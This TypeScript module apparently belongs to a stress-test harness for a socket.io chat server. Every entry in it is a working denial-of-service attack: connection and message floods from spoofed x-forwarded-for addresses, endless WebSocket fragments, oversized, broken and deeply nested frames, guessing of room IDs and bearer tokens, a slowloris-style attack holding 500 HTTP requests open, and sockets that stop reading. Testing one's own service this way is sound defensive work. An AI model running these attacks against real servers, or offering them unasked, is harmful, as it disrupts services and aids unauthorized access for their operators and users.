import { connect } from 'node:net';
import WebSocket from 'ws';

import { idOf } from './people.ts';

/** Whom an attack is made against, with a token and a room of somebody who is let in. */
export interface Target {
  url: string;
  token: string;
  room: string;
}

/** Goes on until `end`, and leaves nothing open behind it. */
type Attack = (target: Target, end: () => boolean) => Promise<void>;

const AT_ONCE = 20;
const socketAddress = ({ url }: Target) =>
  `${url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`;
const turn = () => new Promise<void>((resolve) => setImmediate(resolve));

/** A WebSocket from an address of the attackers; undefined when it is not let in. */
function dial(target: Target, last = 1): Promise<WebSocket | undefined> {
  const headers = { 'x-forwarded-for': `198.51.100.${last}` };
  const socket = new WebSocket(socketAddress(target), { headers, perMessageDeflate: false });
  return new Promise((resolve) => {
    socket.on('error', () => resolve(undefined));
    socket.once('open', () => resolve(socket));
  });
}

/** Several at a time, each again as soon as it is done. */
async function many(end: () => boolean, once: (lane: number) => Promise<void>): Promise<void> {
  const lane = async (_: unknown, n: number) => {
    while (!end()) await once(n);
  };
  await Promise.all(Array.from({ length: AT_ONCE }, lane));
}

/** One connection that says the same as long as it may, and comes back when it was closed. */
function saying(frame: string | Buffer, signIn = false): Attack {
  return (target, end) =>
    many(end, async (lane) => {
      const socket = await dial(target, lane);
      if (!socket) return turn();
      if (signIn) socket.send(`40${JSON.stringify({ token: target.token })}`);
      const text = typeof frame === 'string' ? frame.replace('ROOM', target.room) : frame;
      while (!end() && socket.readyState === WebSocket.OPEN) {
        for (let n = 0; n < 20; n += 1) socket.send(text);
        while (socket.bufferedAmount > 100_000 && !end() && socket.readyState === WebSocket.OPEN)
          await turn();
        await turn();
      }
      socket.terminate();
    });
}

/** Requests one after the other. */
function asking(path: () => string, headers: (target: Target) => Record<string, string>): Attack {
  return (target, end) =>
    many(end, async () => {
      const answer = await fetch(target.url + path(), { headers: headers(target) }).catch(() => undefined);
      await answer?.arrayBuffer();
    });
}

/** Bytes of a client's frame with a mask of zeros. */
const frame = (first: number, payload: Buffer): Buffer =>
  Buffer.concat([Buffer.from([first, 0x80 | payload.length]), Buffer.alloc(4), payload]);

const FRAGMENTS = Buffer.concat(Array.from({ length: 1_000 }, () => frame(0x00, Buffer.from('x'))));

export const attacks: Readonly<Record<string, Attack>> = {
  'connections that never sign in': async (target, end) => {
    const held: WebSocket[] = [];
    await many(end, async () => {
      const socket = await dial(target);
      if (socket) held.push(socket);
      else await turn();
    });
    for (const socket of held) socket.terminate();
  },
  'refused handshakes': (target, end) =>
    many(end, async (lane) => {
      const socket = await dial(target, lane);
      if (!socket) return turn();
      const answered = new Promise<void>((resolve) => {
        socket.on('message', (data: Buffer) => data.toString().startsWith('44') && resolve());
        socket.once('close', () => resolve());
      });
      socket.send('40{"token":"x"}');
      await answered;
      socket.terminate();
    }),
  namespaces: saying('40/nowhere,{}'),
  fragments: async (target, end) => {
    await many(end, async (lane) => {
      const socket = await dial(target, lane);
      const line = (socket as unknown as { _socket?: ReturnType<typeof connect> })?._socket;
      if (!socket || !line) return turn();
      line.write(frame(0x01, Buffer.from('x')));
      while (!end() && socket.readyState === WebSocket.OPEN) {
        if (!line.writableNeedDrain) line.write(FRAGMENTS);
        await turn();
      }
      socket.terminate();
    });
  },
  'frames that are too large': saying(`42["sendMessage","${'x'.repeat(70_000)}"]`, true),
  'broken frames': saying('42["sendMessage",{', true),
  'deep payloads': saying(`420["sendMessage",${'['.repeat(20_000)}${']'.repeat(20_000)}]`, true),
  typing: saying('42["typing",{"chatRoomId":"ROOM"}]', true),
  messages: saying('420["sendMessage",{"chatRoomId":"ROOM","content":"Again"}]', true),
  'ids by guessing': asking(
    () => `/api/message/chat-room/${idOf(String(Math.random()))}/messages`,
    ({ token }) => ({ authorization: `Bearer ${token}` }),
  ),
  'tokens by guessing': asking(
    () => '/api/auth/me',
    () => ({ authorization: 'Bearer x', 'x-forwarded-for': '198.51.100.1' }),
  ),
  'requests that never end': async (target, end) => {
    const { hostname, port } = new URL(target.url);
    const lines = Array.from({ length: 500 }, () => {
      const line = connect(Number(port), hostname);
      line.on('error', () => undefined);
      line.write('POST /api/message/message HTTP/1.1\r\nHost: officehours.example\r\n');
      return line;
    });
    while (!end()) {
      for (const line of lines) if (line.writable) line.write('X-Slow: 1\r\n');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    for (const line of lines) line.destroy();
  },
  'readers that stop': async (target, end) => {
    const ask = `420["syncRooms",${JSON.stringify({ epoch: 'x', rooms: [{ chatRoomId: target.room, afterSeq: 0 }] })}]`;
    await many(end, async (lane) => {
      const socket = await dial(target, lane);
      if (!socket) return turn();
      socket.send(`40${JSON.stringify({ token: target.token, rooms: 'all' })}`);
      socket.pause();
      while (!end() && socket.readyState === WebSocket.OPEN) {
        socket.send(ask);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      socket.terminate();
    });
  },
};
